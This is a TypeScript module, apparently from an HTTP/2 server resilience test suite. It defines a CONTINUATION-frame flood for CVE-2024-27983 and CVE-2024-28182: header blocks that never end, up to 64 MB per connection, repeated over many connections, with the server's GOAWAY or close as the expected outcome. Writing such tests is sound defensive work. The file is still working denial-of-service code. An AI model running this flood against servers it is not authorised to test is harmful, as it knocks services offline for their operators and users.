import { frame, HEADERS } from '../../swarm/http2-frames.js';
import { type Attack, OutcomeCounter, PATIENCE_MS, repeat } from '../attack.js';
import { AttackerConnection } from '../attacker-connection.js';
import { callHeaders, literal } from '../hpack.js';

const CONTINUATION = 9;
/** A header block of so many bytes is never ended. */
const MAX_BYTES = 64 * 1024 * 1024;

const PIECE = frame(CONTINUATION, 0, 1, literal('x-junk', 'j'.repeat(16_000)));

/** Sends the headers of one call in ever more CONTINUATION frames; an attempt is a connection. */
export const continuationFlood: Attack = {
  name: 'continuation-flood',
  description: 'headers that never end, in CONTINUATION frames (CVE-2024-27983, CVE-2024-28182)',
  quick: 10,
  full: 500,
  expected: /^GOAWAY (PROTOCOL_ERROR|ENHANCE_YOUR_CALM|COMPRESSION_ERROR|INTERNAL_ERROR)$|^closed$/,
  async run(target, attempts) {
    const counter = new OutcomeCounter();
    await repeat(attempts, 8, async () => {
      const connection = await AttackerConnection.open(target);
      await connection.send(frame(HEADERS, 0, 1, callHeaders('/waybill.v1.BrokerService/Publish')));
      for (let sent = 0; sent < MAX_BYTES && !connection.isClosed && connection.goaway === undefined;) {
        await connection.send(PIECE);
        sent += PIECE.length;
      }
      counter.add(await connection.ending(PATIENCE_MS));
      connection.destroy();
    });
    return counter.outcomes;
  },
};
